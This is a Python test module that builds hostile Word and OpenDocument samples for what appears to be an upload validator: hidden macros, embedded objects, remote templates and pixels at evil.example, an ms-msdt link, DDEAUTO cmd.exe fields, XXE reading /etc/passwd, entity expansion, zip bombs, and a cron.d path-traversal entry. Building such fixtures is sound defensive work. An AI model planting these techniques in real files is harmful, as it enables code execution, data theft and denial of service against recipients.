"""Documents that are archives: what they carry, fetch, start, hide, and how they burst. LibreOffice's own are beside this."""

import io
import struct
import warnings
import zipfile
import zlib

import openpyxl

from tests import papers
from tests.files import programs
from tests.files.hostile import hostile, zip_of

ZEROS = bytes(1 << 20)


def field(words: str) -> str:
    return f"<w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p>"


# --- Other archives ------------------------------------------------------------------------------------------------


@hostile("other_zip", "cv.docx")
def plain_archive() -> bytes:
    return zip_of({"readme.txt": b"hej"})


@hostile("other_zip", "cv.docx")
def spreadsheet() -> bytes:
    out = io.BytesIO()
    openpyxl.Workbook().save(out)
    return out.getvalue()


@hostile("other_zip", "cv.docx")
def java_program() -> bytes:
    return zip_of({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\nMain-Class: A\n", "A.class": b"\xca\xfe\xba\xbe"})


@hostile("other_zip", "brev.docx")
def word_template() -> bytes:
    return papers.docx("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml")


@hostile("other_zip", "cv.odt")
def opendocument_spreadsheet() -> bytes:
    return papers.odt(main="application/vnd.oasis.opendocument.spreadsheet")


@hostile("other_zip", "cv.docx")
def archive_with_nothing_in_it() -> bytes:
    return zip_of({"[Content_Types].xml": f'<Types xmlns="{papers.TYPES}"/>'.encode()})


# --- Word: macros and objects --------------------------------------------------------------------------------------


@hostile("macros", "cv.docx")
def document_with_macros() -> bytes:
    return papers.docx("application/vnd.ms-word.document.macroEnabled.main+xml", **{"word__vbaProject.bin": b"x"})


@hostile("macros", "cv.docx")
def macros_under_another_name() -> bytes:
    types = f'<Types xmlns="{papers.TYPES}"><Default Extension="dat" ContentType="application/vnd.ms-office.vbaProject"/>'
    types += f'<Override PartName="/word/document.xml" ContentType="{papers.WORD}"/></Types>'
    return papers.docx(**{"[Content_Types].xml": types, "word__notes.dat": b"x"})


@hostile("macros", "cv.docx")
def macros_by_relation_only() -> bytes:
    return papers.docx(
        rels='<Relationship Id="m" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="x.bin"/>'
    )


@hostile("embedded", "cv.docx")
def object_in_the_text() -> bytes:
    return papers.docx(**{"word__embeddings__oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"})


@hostile("embedded", "cv.docx")
def object_under_another_name() -> bytes:
    return papers.docx(**{"word__media__image1.png": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)})


@hostile("embedded", "cv.docx")
def control_in_the_text() -> bytes:
    return papers.docx(**{"word__activeX__activeX1.xml": "<x/>"})


@hostile("embedded", "cv.docx")
def another_document_to_be_merged_in() -> bytes:
    return papers.docx(rels=f'<Relationship Id="c" Type="{papers.KIND}/aFChunk" Target="afchunk.mht"/>')


@hostile("embedded", "cv.docx")
def program_among_the_pictures() -> bytes:
    return papers.docx(**{"word__media__gave.exe": b"MZ" + bytes(100)})


@hostile("embedded", "cv.docx")
def archive_among_the_pictures() -> bytes:
    inner = zip_of({"bomb": ZEROS * 20})
    return papers.docx(**{"word__media__image1.png": zip_of({f"{number}.zip": inner for number in range(20)})})


# --- Word: what it fetches and starts ------------------------------------------------------------------------------


@hostile("remote", "cv.docx")
def template_from_an_address() -> bytes:
    return papers.docx(**{"word___rels__settings.xml.rels": _rels(papers.outside("attachedTemplate", "https://evil.example/t.dotm"))})


@hostile("remote", "cv.docx")
def template_from_a_share() -> bytes:
    return papers.docx(rels=papers.outside("attachedTemplate", r"\\evil.example\t.dotm"))


@hostile("remote", "cv.docx")
def template_from_a_share_as_a_file() -> bytes:
    return papers.docx(rels=papers.outside("attachedTemplate", r"file:///\\evil.example\t.dotm"))


@hostile("remote", "cv.docx")
def picture_that_tells_when_it_is_read() -> bytes:
    return papers.docx(rels=papers.outside("image", "https://evil.example/pixel.png"))


@hostile("remote", "cv.docx")
def object_from_an_address() -> bytes:
    return papers.docx(rels=papers.outside("oleObject", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"))


@hostile("remote", "cv.docx")
def frame_from_an_address() -> bytes:
    return papers.docx(**{"word___rels__webSettings.xml.rels": _rels(papers.outside("frame", "https://evil.example/"))})


@hostile("remote", "cv.docx")
def picture_by_a_field() -> bytes:
    return papers.docx(body=field('INCLUDEPICTURE "https://evil.example/pixel.png" \\d'))


@hostile("remote", "cv.docx")
def link_that_starts_a_tool() -> bytes:
    return papers.docx(rels=papers.outside("hyperlink", "ms-msdt:/id PCWDiagnostic"))


@hostile("active", "cv.docx")
def command_in_a_field() -> bytes:
    return papers.docx(body=field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;"))


@hostile("active", "cv.docx")
def command_in_the_header() -> bytes:
    return papers.docx(**{"word__header1.xml": f'<w:hdr xmlns:w="{papers.W}">{field("DDE cmd x")}</w:hdr>'})


@hostile("active", "cv.docx")
def command_in_pieces() -> bytes:
    pieces = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("D", "DE", "AUTO cmd"))
    return papers.docx(body=f"<w:p>{pieces}</w:p>")


@hostile("active", "cv.docx")
def command_in_numbers() -> bytes:
    """QUOTE writes the letters of DDEAUTO by their numbers."""
    return papers.docx(body=field("QUOTE 68 68 69 65 85 84 79"))


@hostile("active", "cv.docx")
def command_in_a_simple_field() -> bytes:
    return papers.docx(body='<w:p><w:fldSimple w:instr=" DDE cmd x"/></w:p>')


def _rels(relations: str) -> str:
    return f'<Relationships xmlns="{papers.RELS}">{relations}</Relationships>'


# --- XML that bursts or reads our disk -----------------------------------------------------------------------------


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>'


@hostile("damaged", "cv.docx")
def part_that_reads_our_disk() -> bytes:
    return papers.docx(**{"word__document.xml": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'})


@hostile("damaged", "cv.docx")
def part_that_laughs_in_two_bytes_a_letter() -> bytes:
    return papers.docx(**{"word__document.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + LAUGHS + "<x>&c;</x>").encode("utf-16")})


@hostile("damaged", "cv.odt")
def opendocument_that_laughs() -> bytes:
    return papers.odt(**{"styles.xml": LAUGHS + "<x>&c;</x>"})


@hostile("damaged", "cv.docx")
def part_that_breaks_off() -> bytes:
    return papers.docx(body="<w:p>")


# --- Archives that burst, lie or break -----------------------------------------------------------------------------


@hostile("too_much", "cv.docx")
def bomb_that_says_so() -> bytes:
    return papers.docx(word__media__bomb=ZEROS * 210)


@hostile("too_much", "cv.odt")
def opendocument_bomb() -> bytes:
    return papers.odt(Pictures__bomb_png=ZEROS * 210)


@hostile("damaged", "cv.docx")
def bomb_that_lies() -> bytes:
    """It unpacks to 210 MB and says a hundred bytes, in both of its tables."""
    whole = bytearray(papers.docx(word__media__bomb=ZEROS * 210))
    said = struct.pack("<I", 210 << 20)
    while said in whole:
        at = whole.index(said)
        whole[at : at + 4] = struct.pack("<I", 100)
    return bytes(whole)


@hostile("too_much", "cv.docx")
def bomb_whose_parts_lie_upon_each_other() -> bytes:
    """Thousand names, one packed part: each unpacks to a megabyte."""
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = packed.compress(ZEROS) + packed.flush()
    head = struct.pack("<4sHHHHHIIIHH", b"PK\3\4", 20, 0, 8, 0, 33, zlib.crc32(ZEROS), len(content), len(ZEROS), 1, 0) + b"a" + content
    table = b"".join(
        struct.pack(
            "<4sHHHHHHIIIHHHHHII", b"PK\1\2", 20, 20, 0, 8, 0, 33, zlib.crc32(ZEROS), len(content), len(ZEROS), len(name), 0, 0, 0, 0, 0, 0
        )
        + name
        for name in (b"%04d" % number for number in range(1000))
    )
    return head + table + struct.pack("<4sHHHHIIH", b"PK\5\6", 0, 0, 1000, 1000, len(table), len(head), 0)


@hostile("too_much", "cv.docx")
def ten_thousand_parts() -> bytes:
    return papers.docx(**{f"word__media__{number}.png": b"" for number in range(10_000)})


@hostile("too_much", "cv.docx")
def text_of_a_hundred_megabytes() -> bytes:
    return papers.docx(body="<w:p/>" * (100 << 20 >> 4) * 3)


@hostile("damaged", "cv.docx")
def half_a_document() -> bytes:
    whole = programs.word()
    return whole[: len(whole) // 2]


@hostile("damaged", "cv.odt")
def opendocument_with_a_hole() -> bytes:
    whole = bytearray(programs.opendocument())
    whole[2000:2300] = bytes(300)
    return bytes(whole)


@hostile("encrypted", "cv.docx")
def document_whose_parts_are_locked() -> bytes:
    whole = bytearray(papers.docx())
    for mark, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        place = whole.find(mark)
        while place >= 0:
            whole[place + at] |= 1
            place = whole.find(mark, place + 4)
    return bytes(whole)


@hostile("damaged", "cv.docx")
def part_that_is_there_twice() -> bytes:
    out = io.BytesIO(papers.docx())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as archive:
        warnings.simplefilter("ignore")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


@hostile("damaged", "cv.docx")
def part_that_climbs_out() -> bytes:
    return papers.docx(**{"..__..__..__etc__cron.d__x": "* * * * * root true"})


# --- It is two things ----------------------------------------------------------------------------------------------


@hostile("text", "cv.docx")
def program_that_unpacks_itself() -> bytes:
    return b"MZ" + bytes(500) + papers.docx()


@hostile("two", "cv.docx")
def document_with_a_web_page_behind_it() -> bytes:
    return papers.docx() + b"<script>alert(1)</script>"


@hostile("two", "cv.docx")
def document_with_a_web_page_as_its_comment() -> bytes:
    out = io.BytesIO(papers.docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = b"<script>alert(1)</script>"
    return out.getvalue()


@hostile("two", "cv.docx")
def document_that_is_a_pdf_too() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("a", papers.pdf())
        for name in (source := zipfile.ZipFile(io.BytesIO(papers.docx()))).namelist():
            archive.writestr(name, source.read(name))
    return out.getvalue()


@hostile("two", "cv.docx")
def document_of_word_and_of_libreoffice() -> bytes:
    types = f'<Types xmlns="{papers.TYPES}"><Override PartName="/word/document.xml" ContentType="{papers.WORD}"/></Types>'
    return papers.odt(**{"[Content_Types].xml": types})


@hostile("two", "cv.docx")
def two_archives_one_behind_the_other() -> bytes:
    return papers.docx() + papers.docx(**{"word__vbaProject.bin": b"x"})
